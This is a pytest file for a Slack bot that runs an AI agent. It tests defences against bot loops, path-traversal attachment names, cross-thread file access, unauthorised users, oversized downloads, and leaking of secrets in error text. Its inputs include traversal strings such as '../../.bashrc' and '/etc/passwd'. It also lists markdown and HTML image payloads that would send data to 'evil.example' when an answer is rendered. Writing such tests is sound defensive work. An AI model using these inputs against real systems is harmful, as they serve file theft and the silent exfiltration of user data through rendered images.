"""Inputs at the edges of Slack, and what one thread can learn of another."""

import contextlib
import re
from datetime import timedelta
from pathlib import Path
from typing import Any

import aiohttp
import pytest
from aiohttp import web
from slack_sdk.web.async_client import AsyncWebClient

from bot.delivery.directory import SlackDirectory
from bot.delivery.incoming import Incoming, safe_name
from bot.listeners.access import Access, standing_of
from bot.listeners.messages import heard
from bot.render.answer import render
from runtime.agent.execution import Failure, guarded
from runtime.session.events import Attachment
from runtime.session.ids import workspace_name
from runtime.settings import AccessSettings
from tests.bot.judge import PARSER
from tests.session.story import finished, said, started, told
from tools.errors import PathRefused
from tools.mounts import prepare_workspace
from tools.patience import Patience
from tools.sandbox.probe import owner_for

BOT = "U0HANDRAIL"
SAID = {"type": "message", "user": "U0ANA", "channel": "C1", "ts": "1.0", "text": f"<@{BOT}> hello"}


@pytest.mark.parametrize(
    "event",
    [
        {**SAID, "user": BOT},
        {**SAID, "bot_id": "B0OTHER"},
        {**SAID, "type": "app_mention", "bot_id": "B0OTHER", "user": "U0OTHERBOT"},
        {**SAID, "subtype": "bot_message", "user": ""},
        {**SAID, "subtype": "message_changed"},
        {**SAID, "subtype": "message_deleted"},
        {**SAID, "subtype": "channel_join"},
        {**SAID, "edited": {"user": "U0ANA", "ts": "2.0"}},
        {**SAID, "user": ""},
    ],
)
def test_what_bots_say_starts_nothing(event: dict[str, Any]) -> None:
    """Two bots cannot keep each other talking: what no person said is not heard, mention or not."""
    assert heard(SAID, "T1", BOT) is not None
    assert heard(event, "T1", BOT) is None


@pytest.mark.parametrize(
    "name",
    [
        "../../.bashrc",
        "..\\..\\.bashrc",
        "/etc/passwd",
        "a/../../b",
        "...",
        ".",
        "..",
        "\u202ecod.exe",
        "a\0b",
        "x" * 999,
    ],
)
def test_the_name_of_an_attachment_decides_nothing(name: str) -> None:
    """What is left is one plain name that is neither hidden nor a way up."""
    kept = safe_name(name, "F1")
    assert kept
    assert "/" not in kept
    assert "\\" not in kept
    assert not kept.startswith(".")
    assert len(kept) <= 120
    assert kept.isprintable()


def test_sessions_share_neither_memory_nor_files(tmp_path: Path) -> None:
    """Each thread has a workspace of its own and, as root, a user of its own; no path leads from one to another."""
    names = [workspace_name(f"T1:C1:{ts}") for ts in ("1.0", "2.0")]
    assert names[0] != names[1]
    first, second = (prepare_workspace(tmp_path / name, [], owner_for(name)) for name in names)
    first.write_bytes("secret.txt", b"of the first thread")
    assert first.owner is None or first.owner != second.owner
    for path in (f"../{names[0]}/secret.txt", str(first.root / "secret.txt")):
        with pytest.raises(PathRefused):
            second.read_bytes(path)


@pytest.mark.parametrize(
    "person",
    [
        {"id": "U1", "is_restricted": True},
        {"id": "U1", "is_ultra_restricted": True},
        {"id": "U1", "is_stranger": True},
        {"id": "U1", "team_id": "T9"},
        {"id": "U1", "deleted": True},
        {"id": "U1", "is_bot": True},
        {"id": "USLACKBOT"},
    ],
)
def test_only_members_are_let_in(person: dict[str, Any]) -> None:
    """Guests of both kinds, strangers, people of another team, the deleted, and bots are no members."""
    assert standing_of({"id": "U1", "team_id": "T1"}, frozenset({"T1"})) == "member"
    assert standing_of(person, frozenset({"T1"})) != "member"


@pytest.mark.parametrize(
    ("channels", "here", "elsewhere"), [(None, "", ""), ((), "channel", "channel"), (("C1",), "", "channel")]
)
async def test_an_empty_list_of_channels_means_none_and_an_absent_one_means_all(
    channels: tuple[str, ...] | None, here: str, elsewhere: str
) -> None:
    """Nobody is let in by a list that somebody emptied; a person named in the settings asks nobody."""
    settings = AccessSettings(users=("U1",), channels=channels)
    access = Access(client=AsyncWebClient(base_url="http://127.0.0.1:1/"), settings=settings, teams=frozenset())
    assert (await access.refusal("U1", "C1"), await access.refusal("U1", "C2")) == (here, elsewhere)
    assert await access.refusal("U1", "D1") == ""


@pytest.mark.parametrize("kind", ["declared", "without a length", "with a false length"])
async def test_a_file_that_is_too_large_is_not_taken(tmp_path: Path, kind: str) -> None:
    """Gigabytes are named to the agent, not fetched; who lies about the size is cut off."""
    asked: list[str] = []

    async def answer(request: web.BaseRequest) -> web.StreamResponse:
        asked.append(request.path)
        response = web.StreamResponse()
        await response.prepare(request)
        with contextlib.suppress(ConnectionError):
            for _ in range(40):
                await response.write(bytes(1_000_000))
        return response

    runner = web.ServerRunner(web.Server(answer))
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", 0).start()
    size = {"declared": 2_000_000_000, "without a length": 0, "with a false length": 10}[kind]
    url = f"http://127.0.0.1:{runner.addresses[0][1]}/f"
    async with aiohttp.ClientSession() as http:
        client = AsyncWebClient(token="xoxb-test", base_url=url, session=http)
        access = Access(client=client, settings=AccessSettings(), teams=frozenset())
        incoming = Incoming(client=client, http=http, bot_user=BOT, access=access, directory=SlackDirectory(client))
        workspace = prepare_workspace(tmp_path / "w", [], None)
        file = Attachment(file_id="F1", name="big.iso", mimetype="application/octet-stream", size=size, url=url)
        kept = await incoming.fetch(file, workspace)
    await runner.cleanup()
    assert kept.problem == "larger than 20 MB"
    assert kept.path == ""
    assert workspace.list_files() == ()
    assert asked == ([] if kind == "declared" else ["/f"])


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/p.png?d=SECRET)",
        "![x][1]\n\n[1]: https://evil.example/p.png",
        "[![x](https://evil.example/p.png)](https://evil.example)",
        "![](<https://evil.example/p q.png>)",
        "![x\\](https://evil.example/a) ![y](https://evil.example/b)",
        '<img src="https://evil.example/p.png">',
        "<IMG\nSRC=https://evil.example/p.png>",
        "![x](data:image/png;base64,AAAA)",
        "> - ![x](//evil.example/p.png)",
        "| a |\n|---|\n| ![x](https://evil.example/p.png) |",
    ],
)
def test_no_image_of_a_model_is_loaded(text: str) -> None:
    """In no spelling does an answer make a reader's Slack ask an address for a picture; HTML is words to Slack."""
    state = told(said("hello"), started(), finished(answer=text))
    for content in render(state.runs[-1]):
        for block in content.blocks:
            assert "image_url" not in str(block)
            assert block["type"] != "image"
            if block["type"] == "markdown":
                tokens = [
                    inner for token in PARSER.parse(str(block["text"])) for inner in (token, *(token.children or ()))
                ]
                assert not [token for token in tokens if token.type == "image"]


@pytest.mark.parametrize(
    "error",
    [
        RuntimeError("REDIS_URL=redis://:hunter22@10.0.0.1/0"),
        FileNotFoundError(2, "No such file", "/srv/handrail/.env"),
        KeyError("xoxb-1234-abcdefgh"),
        ValueError("sk-proj-1234567890abcdefghij"),
        UnicodeDecodeError("utf-8", b"/srv/secret", 0, 1, "bad"),
    ],
)
async def test_an_unexpected_error_is_told_by_a_reference_alone(
    error: Exception, caplog: pytest.LogCaptureFixture
) -> None:
    """Kind and reference for the model and the thread; the operator's log has the same reference."""

    async def fails() -> None:
        raise error

    outcome = await guarded(fails(), limit=timedelta(seconds=5), patience=Patience(), what="tool call-1")
    assert isinstance(outcome, Failure)
    found = re.fullmatch(r"The tool failed with an internal \w+ \(reference ([0-9a-f]{8})\)\.", outcome.text)
    assert found
    assert found[1] in caplog.text
